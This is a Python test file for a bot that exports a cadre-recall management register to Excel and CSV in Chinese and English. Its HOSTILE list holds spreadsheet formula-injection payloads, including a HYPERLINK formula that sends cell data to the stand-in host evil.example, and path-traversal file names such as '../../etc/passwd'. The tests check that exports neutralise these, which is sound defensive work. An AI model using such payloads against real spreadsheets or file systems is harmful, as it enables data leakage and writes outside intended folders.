import csv
import io
import zipfile
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from bot.clock import ManualClock
from bot.services.export import (
    COLUMNS,
    KINDS,
    export_csv,
    export_xlsx,
    inert,
    write_export,
    write_files,
)
from bot.services.importer import CohortImporter
from models import (
    Assessment,
    Attendance,
    Case,
    Leave,
    Person,
    PlanStep,
    Reflection,
    ReflectionVersion,
    StoredFile,
    Talk,
    TrainingSession,
    Unit,
)
from models.enums import AssessmentKind, AttendanceStatus, Grade, LeaveKind, SessionKind
from tests.data.cohorts import closed_row, row, to_csv

ZONE = "Asia/Shanghai"
AS_OF = date(2026, 3, 2)
SHEETS = {
    "zh-CN": [
        "召回管理",
        "计划事项",
        "谈心谈话",
        "培训考勤",
        "思想汇报",
        "跟踪考察",
        "离岗",
        "办结结果",
    ],
    "en": [
        "Recalls",
        "Plan steps",
        "Talks",
        "Attendance",
        "Self-reflection reports",
        "Assessments",
        "Leave",
        "Outcomes",
    ],
}


async def seed(clock: ManualClock) -> Case:
    """An imported active and closed case, and one record of every kind on the active one."""
    rows = [row(), closed_row(placement="other_unit", disposition="promoted")]
    await CohortImporter(clock).import_bytes("c.csv", to_csv(rows))
    case = await Case.get(cadre__name="张伟")
    mentor = await Person.get(name="李老师")
    now = clock.now()
    await Talk.create(
        case=case, mentor=mentor, held_on=date(2026, 2, 20), place="办公室", summary="谈工作作风",
        attitude=4, recorded_at=now,
    )  # fmt: skip
    session = await TrainingSession.create(
        kind=SessionKind.TRAINING, title="专题培训一期", starts_at=now,
        ends_at=now + timedelta(hours=3), checkin_secret="s", created_at=now,
    )  # fmt: skip
    await Attendance.create(
        session=session, case=case, status=AttendanceStatus.PRESENT, checked_in_at=now,
        recorded_at=now,
    )  # fmt: skip
    reflection = await Reflection.create(case=case, created_at=now, updated_at=now)
    for number, text in ((1, "初稿"), (2, "修改稿：深刻反思")):
        await ReflectionVersion.create(
            reflection=reflection, number=number, text=text, submitted_at=now
        )
    await Assessment.create(
        case=case, kind=AssessmentKind.MID, grade=Grade.COMPETENT, assessor=mentor,
        assessed_on=date(2026, 3, 1), recorded_at=now,
    )  # fmt: skip
    await Leave.create(
        case=case, kind=LeaveKind.SICK, starts_on=date(2026, 2, 25), ends_on=date(2026, 2, 27),
        reason="住院", extends_period=True, created_at=now, updated_at=now,
    )  # fmt: skip
    return case


def local(text: str) -> datetime:
    """A workbook cell's naive datetime (the programme's wall clock)."""
    return datetime.fromisoformat(text)


def sheet_rows(data: bytes) -> dict[str, list[list[Any]]]:
    book = load_workbook(io.BytesIO(data))
    return {ws.title: [list(r) for r in ws.iter_rows(values_only=True)] for ws in book.worksheets}


@pytest.mark.parametrize("locale", ["zh-CN", "en"])
async def test_workbook_has_a_sheet_per_kind_with_headings(
    db: None, clock: ManualClock, locale: str
) -> None:
    await seed(clock)
    sheets = sheet_rows(await export_xlsx(locale, ZONE, as_of=AS_OF))
    assert list(sheets) == SHEETS[locale]
    for title, kind in zip(SHEETS[locale], KINDS, strict=True):
        headings = sheets[title][0]
        assert len(headings) == len(COLUMNS[kind])
        assert all(h and not h.startswith("export-") for h in headings), headings
        assert len(sheets[title]) > 1, kind
    cases = sheets[SHEETS[locale][0]]
    expected = (
        ["管理编号", "召回干部", "单位"] if locale == "zh-CN" else ["Recall no.", "Cadre", "Unit"]
    )
    assert cases[0][:3] == expected


async def test_values_are_labelled_dated_and_local(db: None, clock: ManualClock) -> None:
    case = await seed(clock)
    sheets = sheet_rows(await export_xlsx("zh-CN", ZONE, as_of=AS_OF))
    head, first = sheets["召回管理"][0], sheets["召回管理"][1]
    record = dict(zip(head, first, strict=True))
    assert record["召回干部"] == "张伟" and record["职级"] == "乡科级"
    assert record["召回原因类别"] == "工作纪律与作风" and record["召回原因"] == "不作为"
    assert record["召回日期"] == local("2026-02-16") and record["状态"] == "管理期中"
    assert record["帮带人"] == "李老师" and record["督导"] == "王部长"
    # Stored in UTC (01:30), shown in the programme's zone.
    assert record["创建时间"] == local("2026-03-02 09:30")
    # The readiness summary as of AS_OF: the talk of 20 February, the training attended,
    # one reflection revised once; acknowledgement (due 19 Feb) and talk (23 Feb) still open.
    assert (record["已谈话次数"], record["应谈话次数"], record["有异议的谈话"]) == (1, 1, 0)
    assert (record["专题培训出席"], record["党性教育缺席"]) == (1, 0)
    assert (record["按时汇报"], record["汇报修改次数"]) == (1, 1)
    # Three days of leave (25 to 27 February), not counted as overdue.
    assert (record["累计逾期天数"], record["离岗天数"]) == (11 + 7 - 3 - 3, 3)
    leave = dict(zip(sheets["离岗"][0], sheets["离岗"][1], strict=True))
    assert (leave["离岗类型"], leave["天数"], leave["事由"], leave["顺延管理期"]) == (
        "病假",
        3,
        "住院",
        "是",
    )
    assert leave["开始日期"] == local("2026-02-25")
    outcomes = sheets["办结结果"]
    assert len(outcomes) == 2 and outcomes[1][5:7] == ["交流任职", "提拔重用"]
    steps = [r for r in sheets["计划事项"][1:] if r[0] == case.id]
    assert steps[0][3] == "确认管理计划" and steps[0][6] == local("2026-02-19")
    reflection = dict(zip(sheets["思想汇报"][0], sheets["思想汇报"][1], strict=True))
    assert (reflection["最新稿内容"], reflection["稿数"], reflection["状态"]) == (
        "修改稿：深刻反思",
        2,
        "待审阅",
    )
    attendance = dict(zip(sheets["培训考勤"][0], sheets["培训考勤"][1], strict=True))
    assert attendance["出勤"] == "出席" and attendance["签到时间"] == local("2026-03-02 09:30")
    assessment = dict(zip(sheets["跟踪考察"][0], sheets["跟踪考察"][1], strict=True))
    assert (assessment["考察类型"], assessment["等次"]) == ("中期考察", "称职")
    talk = dict(zip(sheets["谈心谈话"][0], sheets["谈心谈话"][1], strict=True))
    assert (talk["谈话要点"], talk["本人确认"], talk["补录"]) == ("谈工作作风", "待本人确认", "否")


async def test_csv_files_have_iso_dates_and_a_bom(db: None, clock: ManualClock) -> None:
    await seed(clock)
    files = await export_csv("en", ZONE, as_of=AS_OF)
    assert sorted(files) == sorted(f"{kind}.csv" for kind in KINDS)
    assert files["cases.csv"].startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(files["cases.csv"].decode("utf-8-sig"))))
    record = dict(zip(lines[0], lines[1], strict=True))
    assert record["Recalled on"] == "2026-02-16" and record["Created at"] == "2026-03-02 09:30"
    assert record["Rank"] == "section level" and record["Principal"] == "no"


async def test_empty_database_still_has_headings(db: None, tmp_path: Path) -> None:
    written = await write_export(tmp_path / "out.xlsx", "xlsx", "en", ZONE, as_of=AS_OF)
    sheets = sheet_rows(written[0].read_bytes())
    assert all(len(rows) == 1 for rows in sheets.values())
    folder = await write_export(tmp_path / "csv", "csv", "zh-CN", ZONE, as_of=AS_OF)
    assert [p.name for p in folder] == [f"{kind}.csv" for kind in KINDS]
    assert all(p.read_bytes().decode("utf-8-sig").count("\n") == 1 for p in folder)


async def test_text_that_a_workbook_cannot_hold_is_cleaned(db: None, clock: ManualClock) -> None:
    case = await seed(clock)
    await Talk.filter(case=case).update(summary="粘贴\x0b来的文字")
    sheets = sheet_rows(await export_xlsx("zh-CN", ZONE, as_of=AS_OF))
    assert sheets["谈心谈话"][1][6] == "粘贴来的文字"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点此")',
    "+1+2",
    "-2+3",
    "-",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "＝1+1",
]


async def hostile_records(clock: ManualClock, text: str) -> None:
    """People's text in every kind of record: names, unit, talk, reflection, assessment."""
    case = await seed(clock)
    await Person.filter(name="张伟").update(name=text)
    await Unit.filter(id=case.unit_id).update(name=text)  # type: ignore[attr-defined]
    await Talk.filter(case=case).update(summary=text, place=text, actions=text)
    await ReflectionVersion.filter(reflection__case=case).update(text=text)
    await Assessment.filter(case=case).update(comments=text, recommendation=text)
    await TrainingSession.all().update(title=text)


@pytest.mark.parametrize("text", HOSTILE)
async def test_exports_never_hold_a_formula(
    db: None, clock: ManualClock, tmp_path: Path, text: str
) -> None:
    await hostile_records(clock, text)
    data = await export_xlsx("zh-CN", ZONE, as_of=clock.now().date())
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in book.read(n) and b"<f " not in book.read(n) for n in sheets)
    workbook = load_workbook(io.BytesIO(data))
    seen = 0
    for page in workbook.worksheets:
        for line in page.iter_rows():
            for cell in line:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and cell.value.lstrip("'").strip() in (
                    text.strip(),
                    text.replace("\r", "").strip(),
                ):
                    assert cell.value.startswith("'"), (page.title, cell.value)
                    seen += 1
    assert seen >= 10
    csv_seen = 0
    for path in await write_export(tmp_path / "csv", "csv", "en", ZONE, as_of=clock.now().date()):
        for line in csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))):
            for value in line:
                if value.lstrip("'").strip() == text.strip():
                    assert value.startswith("'"), (path.name, value)
                    csv_seen += 1
    assert csv_seen >= 10


def test_plain_text_is_left_as_it_is() -> None:
    for text in ("谈工作作风", "A+B", "1-2", "e-mail: a@b.c", "", "  spaced"):
        assert inert(text) == text
    assert inert(-5) == -5


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/abs/path.docx",
        "..",
        ".hidden",
        "a\x01b\nc\x7f.docx",
        "思" * 100 + ".docx",
        "思" * 200,
        "con:name?.pdf",
    ],
)
async def test_files_stay_in_the_target_folder(db: None, tmp_path: Path, name: str) -> None:
    now = datetime(2026, 3, 2, tzinfo=UTC)
    await StoredFile.create(
        telegram_file_id="f1", owner="reflection-4-v2", kind="document", name=name, size=2,
        content=b"PK", created_at=now,
    )  # fmt: skip
    await StoredFile.create(
        telegram_file_id="f2", owner="reflection-4-v2", kind="document", name=name, size=2,
        content=b"P2", created_at=now,
    )  # fmt: skip
    folder = tmp_path / "out" / "files"
    written = await write_files(folder)
    assert len(written) == 2 and len(set(written)) == 2
    inside = sorted(p.name for p in folder.iterdir())
    assert sorted(p.name for p in written) == inside
    assert all(p.parent == folder.resolve() and len(p.name.encode()) <= 255 for p in written)
    assert sorted(p.read_bytes() for p in written) == [b"P2", b"PK"]
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # noqa: ASYNC240
    if name.startswith("思" * 100):
        assert written[0].name.startswith("reflection-4-v2-思思")
        if name.endswith(".docx"):
            assert written[0].suffix == ".docx"


# A workbook a department can hand over ----------------------------------------------------


def column(page: Any, title: str) -> list[Any]:
    """A sheet's cells under a heading (the data rows)."""
    head = [cell.value for cell in page[1]]
    index = head.index(title) + 1
    return [page.cell(row=r, column=index) for r in range(2, page.max_row + 1)]


@pytest.mark.parametrize("locale", ["zh-CN", "en"])
async def test_a_workbook_a_department_can_hand_over(
    db: None, clock: ManualClock, locale: str
) -> None:
    from openpyxl.utils import get_column_letter

    case = await seed(clock)
    # A step moved past the next one: the sheet lists each case's steps by their days.
    moved = await PlanStep.filter(case=case).order_by("seq").first()
    assert moved is not None
    await PlanStep.filter(id=moved.id).update(due_on=date(2026, 3, 20))
    book = load_workbook(io.BytesIO(await export_xlsx(locale, ZONE, as_of=AS_OF)))
    empty = "无" if locale == "zh-CN" else "none"
    for page in book.worksheets:
        last = get_column_letter(page.max_column)
        assert page.freeze_panes == "A2", page.title
        assert page.auto_filter.ref == f"A1:{last}{page.max_row}", page.title
        assert all(cell.font.b for cell in page[1]), page.title
        for index, heading in enumerate(page[1], start=1):
            width = page.column_dimensions[get_column_letter(index)].width
            assert 6 <= width <= 60 and width >= min(len(str(heading.value)), 30), heading.value
        # Nothing left blank: 无 (none) where nothing was recorded, as the bot says it.
        for line in page.iter_rows(min_row=2):
            assert all(cell.value is not None and cell.value != "" for cell in line), page.title
    t = {"zh-CN": ("召回管理", "召回日期", "创建时间", "计划事项", "应完成日期", "完成日期",
                   "谈心谈话", "本人意见"),
         "en": ("Recalls", "Recalled on", "Created at", "Plan steps", "Due on", "Done on",
                "Talks", "Cadre's comment")}[locale]  # fmt: skip
    cases, steps, talks = book[t[0]], book[t[3]], book[t[6]]
    recalled = column(cases, t[1])[0]
    assert recalled.is_date and recalled.value == local("2026-02-16")
    assert recalled.number_format == ('yyyy"年"m"月"d"日"' if locale == "zh-CN" else "d mmm yyyy")
    created = column(cases, t[2])[0]
    assert created.is_date and created.value == local("2026-03-02 09:30")
    assert created.number_format.endswith("hh:mm")
    mine = [i for i, c in enumerate(column(steps, steps.cell(1, 1).value)) if c.value == case.id]
    due = [column(steps, t[4])[i].value for i in mine]
    assert due == sorted(due) and due[-1] >= local("2026-03-20")
    assert all(c.is_date for c in column(steps, t[4]))
    assert {c.value for c in column(steps, t[5])} >= {empty}  # open steps: not done yet
    assert column(talks, t[7])[0].value == empty


def test_the_file_name_is_in_the_readers_language() -> None:
    from bot.services.export import file_name

    assert file_name("zh-CN", date(2026, 12, 2)) == "召回管理台账_2026-12-02.xlsx"
    english = file_name("en", date(2026, 12, 2))
    assert english == "recall-register_2026-12-02.xlsx" and english.isascii()
    assert file_name("zh-CN", date(2026, 12, 2), "csv") == "召回管理台账_2026-12-02"


async def test_csv_keeps_its_bom_and_leaves_empty_cells_empty(
    db: None, clock: ManualClock
) -> None:
    await seed(clock)
    files = await export_csv("zh-CN", ZONE, as_of=AS_OF)
    assert all(content.startswith("\ufeff".encode()) for content in files.values())
    lines = list(csv.reader(io.StringIO(files["talks.csv"].decode("utf-8-sig"))))
    record = dict(zip(lines[0], lines[1], strict=True))
    assert record["本人意见"] == ""  # data to process further: blank, not a word
